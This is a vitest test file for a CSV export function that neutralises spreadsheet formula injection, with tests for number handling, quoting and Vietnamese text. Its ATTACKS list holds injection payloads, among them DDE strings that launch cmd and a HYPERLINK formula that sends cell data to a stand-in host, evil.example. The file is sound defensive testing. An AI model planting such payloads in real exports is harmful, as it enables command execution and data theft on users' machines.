import { describe, expect, it } from 'vitest';
import { csvCell, inertText, isPlainNumber, restoreText, toCsv } from './csv.ts';

/** Defect 10 (issue 11): formula injection through CSV / XLSX cells. */
export const ATTACKS = [
  "-1+1+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  '+1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '-2+3',
  '-',
  '=',
  '--1',
  '-1e5+1',
  '-.5+1',
];

describe('the one CSV writer: no cell starts a formula', () => {
  it.each(ATTACKS)('neutralises %j', (s) => {
    const cell = csvCell(s);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    expect(unquoted.startsWith("'")).toBe(true);
    expect(unquoted.slice(1)).toBe(s);
  });

  it.each(['-12.5', '-1', '0', '12', '3.25', '-0.0001', '1e3', '-2E-4'])('keeps the plain number %j as it is', (s) => {
    expect(isPlainNumber(s)).toBe(true);
    expect(csvCell(s)).toBe(s);
    expect(csvCell(Number(s))).toBe(String(Number(s)));
  });

  it('leaves ordinary Vietnamese text alone, quoting only what needs it', () => {
    expect(csvCell('Lý lịch tư pháp')).toBe('Lý lịch tư pháp');
    expect(csvCell('Hộ tịch, chứng thực')).toBe('"Hộ tịch, chứng thực"');
    expect(csvCell('1;2')).toBe('"1;2"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('writes a BOM, CRLF and a header row; restoreText undoes inertText exactly', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['=1', -3],
      ]),
    ).toBe("\uFEFFa,b\r\n'=1,-3\r\n");
    for (const s of [...ATTACKS, 'plain', "'quoted already", '-12.5']) expect(restoreText(inertText(s))).toBe(s);
  });
});
